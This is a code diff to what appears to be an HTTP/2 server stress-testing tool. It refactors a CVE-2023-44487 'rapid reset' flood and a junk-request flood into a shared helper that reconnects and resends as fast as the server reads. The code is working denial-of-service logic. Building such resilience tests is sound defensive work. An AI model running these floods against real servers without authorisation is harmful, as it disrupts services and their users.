@@ -490,11 +490,11 @@ def settings_toggle(a: Args, stats: Stats) -> None:
     _blocked_streams_then(a, stats, pair * 500, 1000)
 
 
-@attack("rapid-reset")
-def rapid_reset(a: Args, stats: Stats) -> None:
-    """HEADERS then RST_STREAM(CANCEL), pairs as fast as possible; reconnects whenever
-    the server closes the connection (CVE-2023-44487)."""
-    pairs = 0
+def _reconnecting_flood(a: Args, stats: Stats, batch: Callable[[Conn], bytes],
+                        frames: int) -> int:
+    """Send `batch(conn)` (`frames` frames) as fast as the server reads,
+    reconnecting whenever it closes the connection; how many batches went out."""
+    sent = 0
     for _ in range(10_000):
         if time.monotonic() >= a.deadline:
             break
@@ -506,19 +506,30 @@ def rapid_reset(a: Args, stats: Stats) -> None:
             if c.next_stream > MAX_STREAM_ID - 1000:
                 c.close()
                 break
-            batch = bytearray()
-            for _ in range(200):
-                sid = c.stream_id()
-                batch += headers(sid, GET_BLOCK, end_stream=False) + rst_stream(sid, CANCEL)
-            if not c.push(bytes(batch), 400, read=True):
-                c.next_stream -= 400  # not sent: those stream ids are still unused
+            first = c.next_stream
+            if not c.push(batch(c), frames, read=True):
+                c.next_stream = first  # not sent: those stream ids are still unused
                 continue
-            pairs += 200
+            sent += 1
             c.poll()
         if not c.closed:
             c.drain(0.2)
             c.close()
-    stats.extra["pairs"] = pairs
+    return sent
+
+
+@attack("rapid-reset")
+def rapid_reset(a: Args, stats: Stats) -> None:
+    """HEADERS then RST_STREAM(CANCEL), pairs as fast as possible; reconnects whenever
+    the server closes the connection (CVE-2023-44487)."""
+    def pairs(c: Conn) -> bytes:
+        batch = bytearray()
+        for _ in range(200):
+            sid = c.stream_id()
+            batch += headers(sid, GET_BLOCK, end_stream=False) + rst_stream(sid, CANCEL)
+        return bytes(batch)
+
+    stats.extra["pairs"] = 200 * _reconnecting_flood(a, stats, pairs, 400)
 
 
 def _no_read_flood(a: Args, stats: Stats, chunk: bytes, frames: int,
@@ -663,32 +674,11 @@ JUNK_GET = stateless_block(request_fields(b"/", method=b"GET", grpc=False))
 def junk_requests(a: Args, stats: Stats) -> None:
     """Requests for an unknown gRPC method and plain GETs, as fast as possible,
     reconnecting when the server closes."""
-    requests = 0
-    for _ in range(10_000):
-        if time.monotonic() >= a.deadline:
-            break
-        c = _connect(a, stats)
-        if c is None:
-            continue
-        _handshake(c)
-        while not c.closed and time.monotonic() < a.deadline:
-            if c.next_stream > MAX_STREAM_ID - 1000:
-                c.close()
-                break
-            batch = bytearray()
-            first = c.next_stream
-            for i in range(50):
-                block = JUNK_GRPC if i % 2 == 0 else JUNK_GET
-                batch += headers(c.stream_id(), block, end_stream=True)
-            if not c.push(bytes(batch), 50, read=True):
-                c.next_stream = first
-                continue
-            requests += 50
-            c.poll()
-        if not c.closed:
-            c.drain(0.2)
-            c.close()
-    stats.extra["requests"] = requests
+    def requests(c: Conn) -> bytes:
+        return b"".join(headers(c.stream_id(), JUNK_GRPC if i % 2 == 0 else JUNK_GET,
+                                end_stream=True) for i in range(50))
+
+    stats.extra["requests"] = 50 * _reconnecting_flood(a, stats, requests, 50)
     stats.extra["answered"] = sum(len(c.responses) for c in stats.conns)
 
 
